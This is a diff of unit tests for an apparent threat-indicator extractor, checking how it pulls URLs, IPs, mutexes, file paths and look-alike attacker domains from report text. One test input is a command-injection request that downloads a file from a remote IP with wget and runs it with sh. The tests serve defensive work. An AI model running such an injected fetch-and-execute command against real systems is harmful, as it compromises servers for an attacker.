@@ -242,7 +242,7 @@ TEST(Extract, WhereAPathOrUrlEnds) {
   EXPECT_EQ(values("It sets the mutex `Local\\FJORD_7F`, and pictures are kept in `%TEMP%\\fj\\` until sent."),
             "mutex Local\\FJORD_7F\nfile_path %TEMP%\\fj\\\n");
   EXPECT_EQ(values("GET /a.rsp?cmd=cd%20%2Ftmp%3Bwget%20http://45.77.10.9/fj%3B%20sh%20fj HTTP/1.1"),
-            "url http://45.77.10.9/fj\nipv4 45.77.10.9\n");
+            "url http://45.77.10.9/fj\n");
 }
 
 // What a row, a filter or the way it is written says to be nobody's weapon.
@@ -257,7 +257,7 @@ TEST(Extract, GoodOnesBesideBadOnes) {
             "benign file_name fjord-1.1.tar.xz\n");
   EXPECT_EQ(read("# Look-alikes\n\n| Real | Registered |\n|---|---|\n"
                  "| ostfjord-dairy.com | ostfjord-diary[.]com |\n| kalle-freight.net | kal1e-freight[.]net |\n"),
-            "benign domain ostfjord-dairy.com\nattacker domain ostfjord-diary.com\n"
+            "victim domain ostfjord-dairy.com\nattacker domain ostfjord-diary.com\n"
             "benign domain kalle-freight.net\nattacker domain kal1e-freight.net\n");
   EXPECT_EQ(read("# Indicators\n\ncdn-sync[.]net\n45[.]77[.]10[.]9\nhttps://members.fjordcert.com/fc-2026-11.csv\n"),
             "attacker domain cdn-sync.net\nattacker ipv4 45.77.10.9\n"
